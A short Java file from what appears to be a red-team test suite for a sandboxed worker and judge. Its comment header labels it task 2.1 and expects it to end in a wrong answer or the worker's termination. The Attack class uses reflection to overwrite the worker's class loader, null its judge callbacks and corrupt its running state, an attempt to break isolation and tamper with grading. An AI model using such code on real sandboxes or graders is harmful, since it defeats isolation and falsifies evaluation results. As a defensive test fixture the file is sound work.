// {"kind": "channel", "tries": "exchanges the worker's class loader and the way to the judge", "must": "it is a wrong answer, or the end of the worker", "task": "2.1", "inside": true, "set": ["with Reach.java"]}
package redteam;

public final class Attack {
    public static Object run(Object... given) throws Throwable {
        Object puppet = new Reach(given[0]).puppet;
        Reach.set(puppet, "loader", ClassLoader.getSystemClassLoader());
        Reach.set(puppet, "callbacks", null);
        Reach.set(puppet, "running", -5);
        return "set";
    }
}
